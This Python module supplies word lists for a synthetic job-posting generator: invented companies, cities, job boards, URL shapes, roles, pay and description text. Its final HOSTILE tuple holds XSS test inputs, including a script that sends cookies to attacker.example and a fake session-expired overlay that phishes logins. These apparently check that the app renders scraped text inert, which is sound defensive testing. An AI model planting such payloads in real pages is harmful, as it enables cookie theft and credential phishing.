"""Word lists for the sample generator: cities, boards, companies, roles.

Every company here is invented; any likeness to a real business is accidental.
Employer-owned URLs (sites, logos, apply pages, e-mail) live on example.com,
a reserved domain; the boards' own URL shapes are jobspy's.
"""

# -- places ---------------------------------------------------------------------
US = {"indeed": 30, "linkedin": 28, "zip_recruiter": 16, "glassdoor": 14, "google": 12}
INTL = {"indeed": 30, "linkedin": 36, "glassdoor": 18, "google": 16}
# country: (currency, usual pay interval, pay scale vs a US salary, Indeed host, Glassdoor host, board weights)
COUNTRIES = {
    "us": ("USD", "yearly", 1.00, "www.indeed.com", "www.glassdoor.com", US),
    "uk": ("GBP", "yearly", 0.62, "uk.indeed.com", "www.glassdoor.co.uk", INTL),
    "de": ("EUR", "yearly", 0.58, "de.indeed.com", "www.glassdoor.de", INTL),
    "sg": ("SGD", "monthly", 0.90, "sg.indeed.com", "www.glassdoor.sg", INTL),
    "hk": ("HKD", "monthly", 4.60, "hk.indeed.com", "www.glassdoor.com.hk", INTL),
    "tw": ("TWD", "monthly", 8.00, "tw.indeed.com", None, {"indeed": 45, "linkedin": 35, "google": 20}),
    "ae": ("AED", "monthly", 2.60, "ae.indeed.com", None, {"bayt": 50, "linkedin": 30, "indeed": 10, "google": 10}),
    "in": ("INR", "yearly", 18.0, "in.indeed.com", "www.glassdoor.co.in",
           {"naukri": 50, "linkedin": 25, "indeed": 15, "glassdoor": 10}),
}
# code: (city, weight, country, pay vs the country's, location as most boards spell it, {board: its spelling})
CITIES = {
    "NYC": ("New York", 13, "us", 1.10, "New York, NY, USA", {"google": "New York, NY"}),
    "SF": ("San Francisco", 9, "us", 1.20, "San Francisco, CA, USA", {"google": "San Francisco, CA"}),
    "AUS": ("Austin", 4, "us", 0.95, "Austin, TX, USA", {"google": "Austin, TX"}),
    "CHI": ("Chicago", 4, "us", 0.95, "Chicago, IL, USA", {"google": "Chicago, IL"}),
    "SEA": ("Seattle", 4, "us", 1.10, "Seattle, WA, USA", {"google": "Seattle, WA"}),
    "LON": ("London", 11, "uk", 1.0, "London, UK", {"linkedin": "London, England, UK"}),
    "BER": ("Berlin", 8, "de", 1.0, "Berlin, Germany", {"linkedin": "Berlin, Berlin, Germany"}),
    "SIN": ("Singapore", 8, "sg", 1.0, "Singapore, Singapore", {"google": "Singapore"}),
    "HKG": ("Hong Kong", 8, "hk", 1.0, "Hong Kong, Hong Kong",
            {"linkedin": "Hong Kong, Hong Kong SAR", "google": "Hong Kong"}),
    "TPE": ("Taipei", 10, "tw", 1.0, "Taipei, Taiwan", {"linkedin": "Taipei, Taipei City, Taiwan"}),
    "DXB": ("Dubai", 3, "ae", 1.0, "Dubai, United Arab Emirates",
            {"linkedin": "Dubai, Dubai, United Arab Emirates"}),
    "BLR": ("Bengaluru", 4, "in", 1.0, "Bengaluru, India",
            {"indeed": "Bengaluru, KA, India", "linkedin": "Bengaluru, Karnataka, India"}),
    # remote in the US: boards give the country, Glassdoor "Remote", Google "Anywhere"
    "REM": (None, 10, "us", 1.0, "USA", {"glassdoor": "Remote", "google": "Anywhere"}),
}
CURRENCY_SIGNS = {"USD": "$", "GBP": "£", "EUR": "€", "SGD": "S$", "HKD": "HK$", "TWD": "NT$",
                  "AED": "AED ", "INR": "₹"}

# -- boards ---------------------------------------------------------------------
COLUMNS = tuple("""id site job_url job_url_direct title company location date_posted job_type
    salary_source interval min_amount max_amount currency is_remote job_level job_function listing_type
    emails description company_industry company_url company_logo company_url_direct company_addresses
    company_num_employees company_revenue company_description skills experience_range company_rating
    company_reviews_count vacancy_count work_from_home_type""".split())  # python-jobspy 1.4.1's, in order
# board: (id, job_url, company_url) as jobspy builds them, from the fields generate._post computes
URLS = {
    "indeed": ("in-{hex}", "https://{indeed}/viewjob?jk={hex}", "https://{indeed}/cmp/{Slug}"),
    "linkedin": ("li-{li}", "https://www.linkedin.com/jobs/view/{li}", "https://www.linkedin.com/company/{slug}"),
    "zip_recruiter": ("zr-{key}", "https://www.ziprecruiter.com/c/{Slug}/Job/{Title}/-in-{place}?jid={jid}",
                      "https://www.ziprecruiter.com/co/{Slug}/Jobs"),
    "glassdoor": ("gd-{gd}", "https://{glassdoor}/job-listing/j?jl={gd}",
                  "https://{glassdoor}/Overview/W-EI_IE{employer}.htm"),
    "google": ("go-{key}", "{apply}?utm_source=google_jobs_apply", None),
    "bayt": ("bayt-{bayt}", "https://www.bayt.com/en/uae/jobs/{title}-{bayt}/",
             "https://www.bayt.com/en/company/{slug}-{employer}/"),
    "naukri": ("nk-{nk}", "https://www.naukri.com/job-listings-{title}-{slug}-bengaluru-{nk}",
               "https://www.naukri.com/{slug}-jobs-careers-{employer}"),
}
# board: (chance it shows the employer's facts, which industry label, the company_* columns it fills)
FACTS = {"indeed": (0.8, 0, "industry description addresses url_direct num_employees revenue rating reviews_count"),
         "glassdoor": (1.0, 2, "industry description addresses url_direct num_employees revenue rating"),
         "zip_recruiter": (0.7, 3, "industry description addresses url_direct num_employees rating"),
         "naukri": (1.0, 3, "industry description addresses rating reviews_count"),
         "linkedin": (1.0, 1, "industry"), "bayt": (1.0, 3, "industry num_employees"), "google": (0, 0, "")}
JOB_TYPES = {"fulltime": "Full-time", "parttime": "Part-time", "contract": "Contract",  # as Indeed words them
             "temporary": "Temporary", "perdiem": "PRN"}
# chance that a board shows pay at all (Google's rows never carry it in jobspy)
PAY_SHOWN = {"indeed": 0.65, "linkedin": 0.35, "zip_recruiter": 0.8, "glassdoor": 0.6,
             "google": 0.0, "bayt": 0.35, "naukri": 0.45}
# boards that keep the employer's apply link in job_url_direct
DIRECT_LINK = {"indeed": 0.55, "zip_recruiter": 0.6, "naukri": 0.4}
# boards that carry a logo, and how often
LOGO = {"indeed": 0.8, "linkedin": 0.85, "zip_recruiter": 0.75, "glassdoor": 0.9, "bayt": 0.6,
        "naukri": 0.7}

# -- companies ------------------------------------------------------------------
# industry | role families it hires (repeats weigh more) | its label on Indeed | LinkedIn | Glassdoor | the rest
INDUSTRIES = """
software|eng eng eng data data product design marketing sales people finance|Information Technology|Software Development|Enterprise Software & Network Solutions|Technology
hardware|eng eng eng data product ops finance sales people|Manufacturing|Semiconductor Manufacturing|Computer Hardware Development|Manufacturing
finance|finance finance data eng sales people marketing|Banking and Lending|Financial Services|Investment & Asset Management|Finance
insurance|finance data sales sales people marketing eng|Insurance|Insurance|Insurance Carriers|Insurance
logistics|ops ops ops data finance people sales trades|Transport and Freight|Transportation, Logistics, Supply Chain and Storage|Shipping & Trucking|Logistics
media|marketing marketing design design sales data|Media and Communication|Advertising Services|Advertising & Public Relations|Marketing & Advertising
accounting|finance finance finance people|Accounting|Accounting|Accounting & Tax|Accounting
health|health health health health finance people data|Healthcare|Hospitals and Health Care|Health Care Services & Hospitals|Healthcare
retail|sales marketing ops ops finance data hospitality|Retail and Wholesale|Retail|Grocery Stores|Retail
hospitality|hospitality hospitality ops marketing finance|Restaurants and Food Service|Food and Beverage Services|Restaurants & Cafes|Hospitality
education|education education education people marketing|Education|Education|Education & Training Services|Education
energy|trades trades eng data finance ops people|Energy, Mining and Utilities|Renewable Energy Power Generation|Energy & Utilities|Energy
"""
SIZES = ("11 to 50", "51 to 200", "201 to 500", "501 to 1,000", "1,001 to 5,000", "5,001 to 10,000",
         "10,000+")  # company size 0..6 as Indeed words it; other boards' wording derives from it
REVENUES = ("$1M to $5M (USD)", "$5M to $25M (USD)", "$25M to $100M (USD)", "$100M to $500M (USD)",
            "$500M to $1B (USD)", "$1B to $5B (USD)", "more than $10B (USD)")  # by company size, as Indeed words it
# name | legal suffix | industry | size 0-6 | rating | headquarters | cities | what it does
COMPANIES = """
Quillwater Analytics|Inc.|software|4|4.1|New York, NY|NYC SF LON REM|builds demand-forecasting tools that help retailers plan inventory
Lumenfield Software|Inc.|software|5|3.9|San Francisco, CA|SF SEA NYC LON BER SIN REM|makes the project-planning software used by 40,000 teams
Ferrowind Robotics|Inc.|hardware|3|4.0|San Francisco, CA|SF AUS TPE|designs warehouse robots and the fleet software that runs them
Tamsui Microsystems|Co., Ltd.|hardware|6|3.7|Taipei, Taiwan|TPE SF|designs power-management chips for laptops and electric vehicles
Formosa Circuitworks|Corp.|hardware|5|3.5|Taipei, Taiwan|TPE|manufactures printed circuit boards for networking equipment
Yangmingshan Games|Co., Ltd.|software|3|4.1|Taipei, Taiwan|TPE REM|develops mobile strategy games played in 30 countries
Jadestone Capital|Ltd.|finance|4|3.8|Hong Kong|HKG SIN LON|is an Asia-focused asset manager with USD 12bn under management
Victoria Harbour Securities|Ltd.|finance|5|3.6|Hong Kong|HKG TPE SIN|is a regional brokerage serving retail and institutional clients
Merlion Freightways|Pte. Ltd.|logistics|5|3.7|Singapore|SIN HKG DXB|moves sea and air freight between Southeast Asia and the Gulf
Straits Ledger|Pte. Ltd.|software|2|4.3|Singapore|SIN REM|builds accounting software for small businesses in Southeast Asia
Orchid Lane Hospitality|Pte. Ltd.|hospitality|4|3.5|Singapore|SIN HKG DXB|runs 14 boutique hotels and their restaurants
Spreebrück Mobility|GmbH|software|3|4.0|Berlin, Germany|BER REM|operates shared e-bikes and scooters in 20 European cities
Ostwind Energie|AG|energy|6|3.8|Berlin, Germany|BER|builds and operates onshore wind and solar parks
Thameside Mutual Insurance|plc|insurance|6|3.5|London, UK|LON|insures homes and small businesses across the UK
Camden Row Studios|Ltd|media|2|4.2|London, UK|LON NYC REM|is a creative studio making campaigns for consumer brands
Brickfield & Shaw|LLP|accounting|4|3.6|London, UK|LON NYC HKG|provides audit, tax and advisory services to mid-sized firms
Glasswing Retail Group|plc|retail|6|3.2|London, UK|LON BER|runs 300 home-goods stores and a growing online shop
Tidewell Health|Inc.|health|6|3.4|New York, NY|NYC CHI|runs four hospitals and 30 outpatient clinics
Morningside Family Clinics|PLLC|health|2|4.1|New York, NY|NYC|runs five primary-care clinics in Upper Manhattan
Lanternfly Payments|Inc.|software|4|4.0|New York, NY|NYC LON SIN HKG REM|processes card payments for online marketplaces
Cobalt Harbor Bank|N.A.|finance|6|3.7|New York, NY|NYC SF CHI LON HKG SIN|is a commercial bank serving mid-market companies
Wayfarer Kitchen|Co.|hospitality|3|3.7|New York, NY|NYC SF|runs 22 all-day cafés and a central bakery
Saint Aurelia Medical Center||health|6|3.6|San Francisco, CA|SF SEA|is a 600-bed teaching hospital
Helix & Loom Biotherapeutics|Inc.|health|4|4.0|San Francisco, CA|SF SEA BER|develops antibody therapies for autoimmune disease
Kestrel Home Care|LLC|health|3|3.2|Austin, TX|AUS CHI|provides in-home nursing and care for older adults
Wrenfield Clinical Staffing|LLC|health|4|3.9|Austin, TX|AUS NYC CHI SEA SF|places travel nurses and therapists in hospitals across the US
Copperfinch Creative|LLC|media|1|4.5|Austin, TX|AUS NYC REM|is a small branding and web-design agency
Larkspur Ledger Partners|LLP|accounting|3|3.9|Chicago, IL|CHI NYC REM|is an accounting firm focused on family businesses
Brightkettle Foods|Inc.|retail|5|3.3|Chicago, IL|CHI NYC AUS SEA|operates 90 neighbourhood grocery stores
Sapphire Peak Insurance|Inc.|insurance|5|3.5|Chicago, IL|CHI NYC REM|sells auto and renters insurance online
Nimbuscale|Inc.|software|4|4.2|Seattle, WA|SEA SF NYC LON BLR REM|runs a managed database platform for developers
Harborline Logistics|Inc.|logistics|5|3.4|Seattle, WA|SEA CHI AUS NYC|runs regional warehouses and last-mile delivery
Sandgrouse Energy|LLC|energy|5|3.8|Dubai, United Arab Emirates|DXB LON|builds solar farms and grid storage in the Gulf
Dhowline Trading|LLC|retail|4|3.6|Dubai, United Arab Emirates|DXB|imports and distributes consumer electronics across the GCC
Indigo Banyan Technologies|Pvt. Ltd.|software|5|3.7|Bengaluru, India|BLR SIN REM|builds core-banking software for regional banks
Cauvery Health Systems|Pvt. Ltd.|health|5|3.9|Bengaluru, India|BLR|runs multispecialty hospitals in South India
Pinewick Language Academy|Ltd.|education|3|4.0|Taipei, Taiwan|TPE HKG|teaches English to children and adults in 40 schools
Tessellate Design|Ltd.|media|1|4.6|Taipei, Taiwan|TPE HKG SIN REM|is a product-design studio working with hardware startups
"""

# -- roles ----------------------------------------------------------------------
# family: (title, level, US base pay in thousands of USD a year, usual pay unit: year/hour/week/day)
ROLES = {
    "eng": [("Software Engineer", "mid", 125, "y"), ("Senior Software Engineer", "senior", 165, "y"),
            ("Staff Software Engineer", "lead", 210, "y"), ("Junior Software Engineer", "entry", 85, "y"),
            ("Backend Engineer (Go)", "mid", 135, "y"), ("Frontend Engineer (React)", "mid", 125, "y"),
            ("Full Stack Developer", "mid", 115, "y"), ("DevOps Engineer", "mid", 135, "y"),
            ("Site Reliability Engineer", "senior", 155, "y"), ("iOS Engineer", "mid", 135, "y"),
            ("QA Automation Engineer", "mid", 100, "y"), ("Firmware Engineer", "mid", 120, "y")],
    "data": [("Data Analyst", "mid", 78, "y"), ("Senior Data Analyst", "senior", 105, "y"),
             ("Data Scientist", "mid", 135, "y"), ("Data Engineer", "mid", 135, "y"),
             ("Machine Learning Engineer", "senior", 170, "y"), ("Business Intelligence Developer", "mid", 105, "y")],
    "product": [("Product Manager", "mid", 140, "y"), ("Senior Product Manager", "senior", 175, "y"),
                ("Technical Program Manager", "senior", 155, "y"), ("Product Owner", "mid", 115, "y")],
    "design": [("UX Designer", "mid", 105, "y"), ("Senior Product Designer", "senior", 150, "y"),
               ("UX Researcher", "mid", 115, "y"), ("Graphic Designer", "entry", 62, "y"),
               ("Freelance Motion Designer", "mid", 95, "d")],
    "health": [("Registered Nurse", "mid", 92, "h"), ("ICU Registered Nurse", "senior", 105, "h"),
               ("Travel Nurse - ICU", "mid", 120, "w"), ("Travel Nurse - Med/Surg", "mid", 110, "w"),
               ("Travel Respiratory Therapist", "mid", 100, "w"), ("Locum Pharmacist", "senior", 125, "d"),
               ("Pharmacist", "senior", 130, "y"), ("Medical Assistant", "entry", 42, "h"),
               ("Physical Therapist", "mid", 95, "y"), ("Clinical Research Coordinator", "mid", 68, "y")],
    "finance": [("Accountant", "mid", 68, "y"), ("Senior Accountant", "senior", 88, "y"),
                ("Financial Analyst", "mid", 82, "y"), ("Payroll Specialist", "mid", 60, "y"),
                ("Audit Associate", "entry", 72, "y"), ("Tax Manager", "lead", 125, "y"),
                ("Accounts Payable Clerk", "entry", 45, "h")],
    "marketing": [("Marketing Manager", "senior", 110, "y"), ("Content Writer", "mid", 60, "y"),
                  ("Digital Marketing Specialist", "mid", 68, "y"), ("SEO Specialist", "mid", 65, "y"),
                  ("Social Media Coordinator", "entry", 52, "y"), ("Growth Marketing Manager", "senior", 125, "y")],
    "sales": [("Account Executive", "mid", 95, "y"), ("Customer Success Manager", "mid", 85, "y"),
              ("Customer Support Representative", "entry", 42, "h"),
              ("Sales Development Representative", "entry", 58, "y"),
              ("Business Development Manager", "senior", 110, "y")],
    "people": [("HR Generalist", "mid", 68, "y"), ("Technical Recruiter", "mid", 85, "y"),
               ("Executive Assistant", "mid", 65, "y"), ("Office Administrator", "entry", 48, "h")],
    "ops": [("Operations Manager", "senior", 90, "y"), ("Supply Chain Analyst", "mid", 75, "y"),
            ("Warehouse Associate", "entry", 36, "h"), ("Logistics Coordinator", "entry", 52, "y")],
    "education": [("English Teacher", "mid", 45, "y"), ("Teaching Assistant", "entry", 35, "h"),
                  ("Instructional Designer", "mid", 80, "y")],
    "hospitality": [("Line Cook", "entry", 38, "h"), ("Restaurant Manager", "mid", 62, "y"),
                    ("Barista", "entry", 32, "h")],
    "trades": [("Electrician", "mid", 68, "h"), ("HVAC Technician", "mid", 60, "h"),
               ("Wind Turbine Technician", "mid", 64, "h")],
}
LEVELS = {  # LinkedIn seniority, years asked, Naukri/Bayt experience
    "entry": ("entry level", "1+ year", "0-2 Yrs"), "mid": ("associate", "3+ years", "3-5 Yrs"),
    "senior": ("mid-senior level", "5+ years", "5-10 Yrs"), "lead": ("director", "8+ years", "10-15 Yrs"),
}

# -- descriptions ---------------------------------------------------------------
FAMILIES = {  # family: (LinkedIn job function, teams, experience in, duties, requirements, skills)
    "eng": ("Engineering and Information Technology", "Platform;Payments;Mobile;Infrastructure;Core Product",
            "building and running production software",
            "Design, build and ship features end to end;Review code and help teammates grow;"
            "Keep our services fast, observable and reliable;Take part in a fair on-call rotation;"
            "Write clear design docs and share them early;Break down large projects into safe, incremental releases",
            "Solid grasp of data structures, testing and version control;"
            "Experience with cloud infrastructure (AWS, GCP or Azure);Comfortable with SQL and relational databases;"
            "Clear written communication in English",
            "Python;Go;TypeScript;React;PostgreSQL;Kubernetes;AWS;Docker;Terraform;gRPC;Swift;C"),
    "data": ("Information Technology", "Analytics;Data Platform;Growth;Risk;Finance Analytics",
             "analytics or data engineering",
             "Build dashboards and self-serve reports for business teams;Design and run A/B tests;"
             "Model data in our warehouse and keep it tested;Turn messy questions into clear analyses;"
             "Present findings to leadership;Partner with engineers on event tracking",
             "Advanced SQL;Experience with Python or R for analysis;A good feel for statistics and experiment design;"
             "Able to explain numbers to non-technical colleagues",
             "SQL;Python;dbt;Airflow;Snowflake;BigQuery;Tableau;Looker;Spark;pandas;statistics;Power BI"),
    "product": ("Product Management", "Checkout;Onboarding;Platform;Mobile;Growth",
                "product management in a software company",
                "Own the roadmap for your area;Talk to customers every week;Write crisp problem statements and specs;"
                "Work with design and engineering from discovery to launch;Define success metrics and track them",
                "A track record of shipping products people use;Comfortable with data and experimentation;"
                "Strong written and verbal communication",
                "roadmapping;user research;SQL;Jira;Figma;A/B testing;stakeholder management;OKRs"),
    "design": ("Design, Art/Creative, and Information Technology", "Design Systems;Mobile;Web;Brand",
               "product or visual design",
               "Design flows from sketches to polished prototypes;Run usability tests and share what you learn;"
               "Contribute to our design system;Work closely with product managers and engineers",
               "A portfolio showing your process, not only final screens;Fluent in Figma;"
               "Understanding of accessibility (WCAG)",
               "Figma;prototyping;user research;design systems;accessibility;Adobe Illustrator;interaction design"),
    "health": ("Health Care Provider", "Intensive Care;Medical-Surgical;Outpatient;Emergency;Oncology",
               "a clinical setting",
               "Assess, plan and deliver patient care;Administer medications and treatments safely;"
               "Document care accurately in the EHR;Educate patients and families;"
               "Work closely with physicians and therapists",
               "Current state licence or local registration;BLS certification (ACLS preferred);"
               "Calm under pressure and kind to patients;Able to work 12-hour shifts, nights and weekends",
               "patient care;BLS;ACLS;Epic EHR;medication administration;triage;infection control;care planning"),
    "finance": ("Accounting/Auditing and Finance", "Finance;Controllership;Tax;Audit;FP&A", "accounting or finance",
                "Prepare month-end close and reconciliations;Own accounts payable and receivable processes;"
                "Support the annual audit;Build budgets and forecasts with business owners;"
                "Improve controls and documentation",
                "A degree in accounting or finance;CPA, ACCA or CA qualified or studying;Advanced Excel;"
                "Strong attention to detail",
                "Excel;NetSuite;SAP;QuickBooks;IFRS;US GAAP;reconciliation;financial modelling;Xero"),
    "marketing": ("Marketing", "Brand;Growth;Content;Performance Marketing;Lifecycle", "marketing",
                  "Plan and run campaigns across paid, owned and earned channels;"
                  "Write and edit copy for web, email and social;Track results and report on what worked;"
                  "Manage agencies and freelancers;Keep our brand voice consistent",
                  "A portfolio of campaigns you ran;Comfortable with analytics tools;Excellent writing in English",
                  "SEO;Google Analytics;HubSpot;copywriting;paid social;email marketing;Canva;content strategy"),
    "sales": ("Sales and Business Development", "Mid-Market;Enterprise;Customer Success;Support",
              "sales or customer-facing roles",
              "Manage a pipeline from first call to signed contract;Run product demos;"
              "Help customers get value quickly;Answer customer questions by chat, email and phone;"
              "Keep the CRM accurate",
              "A track record of hitting targets;Confident on the phone and in person;Organised and self-motivated",
              "Salesforce;HubSpot;negotiation;prospecting;Zendesk;account management;customer success"),
    "people": ("Human Resources", "People;Talent;Workplace", "HR, recruiting or office management",
               "Support hiring from job post to first day;Answer employee questions on policy and benefits;"
               "Keep HR records and payroll inputs accurate;Plan team events and office logistics",
               "Discretion with confidential information;Knowledge of local employment law;Friendly and organised",
               "Workday;BambooHR;recruiting;onboarding;employee relations;payroll;scheduling"),
    "ops": ("Management and Manufacturing", "Operations;Supply Chain;Fulfilment", "operations or logistics",
            "Plan daily operations and staff schedules;Track KPIs and fix bottlenecks;"
            "Pick, pack and ship orders accurately;Work with carriers and suppliers;Keep the site safe and tidy",
            "Forklift certification is a plus;Comfortable with spreadsheets and a WMS;Able to lift 50 lbs",
            "WMS;Excel;forecasting;inventory control;SAP;lean;forklift;scheduling"),
    "education": ("Education and Training", "Kids Programme;Adult Learning;Curriculum", "teaching",
                  "Plan and teach engaging lessons;Track student progress and write reports;Meet parents each term;"
                  "Develop course materials with the curriculum team",
                  "A bachelor's degree;TEFL, CELTA or a teaching licence;Patience and energy with young learners",
                  "lesson planning;classroom management;TEFL;CELTA;curriculum design;assessment"),
    "hospitality": ("Other", "Kitchen;Front of House;Café", "restaurants or cafés",
                    "Prepare food and drinks to our recipes;Keep stations clean and stocked;Serve guests warmly;"
                    "Open and close the shop;Train new teammates",
                    "Food-safety certificate (or willing to get one);Weekend availability;A team player",
                    "food safety;espresso;inventory;customer service;POS;scheduling"),
    "trades": ("Other", "Field Services;Maintenance;Installation", "a skilled trade",
               "Install, test and repair equipment;Read drawings and schematics;"
               "Follow lockout/tagout and safety rules;Keep service reports complete",
               "Journeyman licence or equivalent;Valid driver's licence;Comfortable working at heights",
               "electrical systems;troubleshooting;OSHA 30;PLC;HVAC;preventive maintenance"),
}
BENEFITS = {
    "USD": "Medical, dental and vision insurance;401(k) with 4% match;Paid parental leave;Flexible PTO",
    "GBP": "25 days of holiday plus bank holidays;Pension with 6% employer contribution;"
           "Private medical insurance;Cycle-to-work scheme",
    "EUR": "30 days of paid vacation;Company pension plan;Public-transport ticket paid by us;"
           "Learning budget of 1,500 EUR a year",
    "SGD": "CPF contributions;14 days of annual leave;Medical and dental coverage;Annual wage supplement",
    "HKD": "MPF contributions;Double pay;Medical and dental coverage;Five-day work week",
    "TWD": "Labour and national health insurance;Guaranteed year-end bonus;Employee stock ownership plan;"
           "Free lunch on Fridays",
    "AED": "Tax-free salary;Annual flight home;Housing allowance;Family medical insurance",
    "INR": "Group medical insurance for family;Provident fund;Hybrid working;Annual performance bonus",
}
INTROS = ("We are a team of people who care about doing good work and helping each other do it.",
          "We grew 40% last year and are hiring across the business.",
          "Our people stay: average tenure is over four years.",
          "We are profitable, independent and in it for the long run.")
PITCHES = ("You will work with experienced colleagues, own meaningful work from the first month, "
           "and have room to grow.", "This is a new position: the team is doubling in size this year.",
           "You will report to the head of the team and work with colleagues in other offices.",
           "The role opens as a colleague moves on to a new position, so expect a thorough handover.")
EEO = ("We are an equal opportunity employer and value diversity. We do not discriminate on the basis "
       "of race, religion, colour, national origin, gender, sexual orientation, age, marital status or disability.")

# third-party text is hostile: these must render inert in the app
HOSTILE = (
    "<script>fetch('https://attacker.example/steal?c='+document.cookie)</script>",
    '<img src="https://attacker.example/x.png" onerror="alert(\'jobdeck-xss\')">',
    "[Apply in one click](javascript:alert(document.domain)) or "
    '<a href="javascript:fetch(\'https://attacker.example/?k=\'+localStorage.length)">apply here</a>',
    "<style>body{display:none !important}</style>"
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Your session expired. '
    "Sign in again at https://login.attacker.example</div>",
)
